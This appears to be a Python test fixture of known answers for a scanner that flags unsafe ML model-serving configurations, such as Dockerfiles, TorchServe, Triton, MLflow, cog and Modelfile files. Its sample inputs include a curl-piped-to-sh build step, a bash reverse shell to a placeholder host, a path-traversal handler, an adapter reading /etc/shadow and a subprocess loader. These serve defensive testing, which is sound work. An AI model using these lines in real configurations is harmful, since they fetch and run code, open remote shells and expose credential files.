"""Known answers for `artifact.serving-config`. Nothing in them is ever run."""

from seatrial.testing.case import Case

_MLMODEL = (
    b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\nmodel_uuid: x\n"
)
_DOCKER = b"""FROM python:3.11-slim
ENV PYTHONUNBUFFERED=1
RUN apt-get update && apt-get install -y \\
    git curl && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
CMD ["python", "serve.py"]
"""

CASES: tuple[Case, ...] = (
    Case(
        name="an image fetches a program into a shell while it is built",
        files={"Dockerfile": b"FROM alpine\nRUN apk add curl && \\\n  curl -s https://example.invalid/x | sh\n"},
        expect=("fail: fetches a program and runs it",),
    ),
    Case(
        name="a server that installs what models name and lets everybody manage it",
        files={"config.properties": b"install_py_dep_per_model=true\nmanagement_address=http://0.0.0.0:8081\n"},
        expect=("review: has the server install the packages", "review: lets everybody manage the server"),
    ),
    Case(
        name="an archive whose handler lies outside of it",
        files={"MAR-INF/MANIFEST.json": b'{"model": {"handler": "../../tmp/h.py", "modelName": "x"}}'},
        expect=("fail: has the server run code outside of the model: ../../tmp/h.py",),
    ),
    Case(
        name="loading imports a module of its own",
        files={"MLmodel": _MLMODEL.replace(b"mlflow.sklearn", b"evil_loader")},
        expect=("review: has loading import a module of its own: evil_loader in line 3",),
    ),
    Case(
        name="loading imports a module that acts on the machine",
        files={"MLmodel": _MLMODEL.replace(b"mlflow.sklearn", b"subprocess")},
        expect=("fail: has loading import a module of its own: subprocess in line 3",),
    ),
    Case(
        name="a server that runs Python of the model",
        files={"config.pbtxt": b'name: "x"\nbackend: "python"\nmax_batch_size: 8\n'},
        expect=("review: has the server run Python that comes with the model in line 2",),
    ),
    Case(
        name="a recipe opens a shell to the network",
        files={"cog.yaml": b"build:\n  run:\n    - bash -i >& /dev/tcp/example.invalid/1 0>&1\npredict: p.py:P\n"},
        expect=("fail: opens a shell to the network",),
    ),
    Case(
        name="takes an adapter from the system",
        files={"Modelfile": b"FROM llama3\nADAPTER /etc/shadow\nSYSTEM You are kind.\n"},
        expect=("fail: ADAPTER takes a file outside of the model: /etc/shadow in line 2",),
    ),
    Case(
        name="ordinary serving",
        files={
            "Dockerfile": _DOCKER,
            "MLmodel": _MLMODEL,
            "config.properties": b"inference_address=http://127.0.0.1:8080\nnumber_of_gpu=1\n",
            "config.pbtxt": b'name: "x"\nbackend: "onnxruntime"\ninput [ { name: "i" data_type: TYPE_FP32 } ]\n',
        },
        good=True,
    ),
    Case(
        name="ordinary recipes",
        files={
            "Modelfile": b'FROM ./model.gguf\nPARAMETER temperature 1\nSYSTEM """\nFROM /etc you come.\n"""\n',
            "cog.yaml": b"build:\n  gpu: true\n  python_packages:\n    - torch==2.1\n  run:\n    - apt-get update\n",
            "bentofile.yaml": b"service: 'service:svc'\npython:\n  packages:\n    - torch\n",
        },
        good=True,
    ),
)
